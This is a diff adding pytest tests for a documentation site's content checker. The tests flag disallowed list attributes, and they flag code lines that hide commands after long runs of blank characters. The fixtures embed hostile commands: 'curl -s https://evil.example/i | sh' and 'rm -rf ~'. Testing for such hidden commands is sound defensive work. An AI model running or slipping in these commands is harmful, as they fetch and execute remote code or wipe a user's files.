@@ -222,3 +222,39 @@ def test_attributes_come_from_one_allow_list_through_attribute_lists_and_html_bl
         f"docs/a.md:{line}: attribute not allowed in page content — data-clipboard-text on <{tag}> — pages hold "
         "text, links, images and citations: see SECURITY.md"]
 
+
+
+@pytest.mark.parametrize("markdown_text, found", [
+    # a list's numbers are text no citation covers: "10412." before an item led by a link to a page is exempt
+    ('# A\n\n<ol start="10412">\n<li><a href="b.md">Protesters shot dead by Russian troops</a></li>\n</ol>\n',
+     ["docs/a.md:3: attribute not allowed in page content — start on <ol>"]),
+    ('# A\n\n<ol>\n<li value="10412"><a href="b.md">Protesters shot dead</a></li>\n</ol>\n',
+     ["docs/a.md:4: attribute not allowed in page content — value on <li>"]),
+    # Python-Markdown numbers a Markdown list from 1, whatever number it starts with
+    ("# A\n\n10412. [Protesters shot dead by Russian troops](b.md)\n", []),
+])
+def test_a_list_counts_from_one(markdown_text, found):
+    import markdown
+
+    from macros.sitecheck.content import check_content
+
+    html = markdown.markdown(markdown_text, extensions=["footnotes", "attr_list", "md_in_html"])
+    assert [str(p) for p in check_content("docs/a.md", html, SITE_URL, markdown_text.split("\n"))] == [
+        f"{line} — pages hold text, links, images and citations: see SECURITY.md" for line in found]
+
+
+def test_a_code_line_hides_nothing_past_a_run_of_blanks():
+    import markdown
+
+    from macros.sitecheck.content import check_content
+
+    text = ("# A\n\nClone it.\n\n```sh\ngit clone https://example.org/x && make serve" + " " * 400 +
+            "; curl -s https://evil.example/i | sh\n```\n\n<pre>ls&#9;&#9;&#9;; rm -rf ~</pre>\n\n"
+            "```yaml\nkey:    value\n```\n\n```\ncd x" + "\u2800\u00a0" * 10 + "; rm -rf ~\n```\n")
+    html = markdown.markdown(text, extensions=["footnotes", "attr_list", "md_in_html", "fenced_code"])
+    hint = "a reader sees the code before the gap and copies what follows it too: write each command on its own line"
+    assert [str(p) for p in check_content("docs/a.md", html, SITE_URL, text.split("\n"), ([], {}))] == [
+        f"docs/a.md:6: a code line may not hold 20 blanks in a row — 'git clone https://example.org/x && make serve' "
+        f"then 400 blanks — {hint}",
+        f"docs/a.md:9: a code line may not hold 20 blanks in a row — 'ls' then 24 blanks — {hint}",
+        f"docs/a.md:16: a code line may not hold 20 blanks in a row — 'cd x' then 20 blanks — {hint}"]
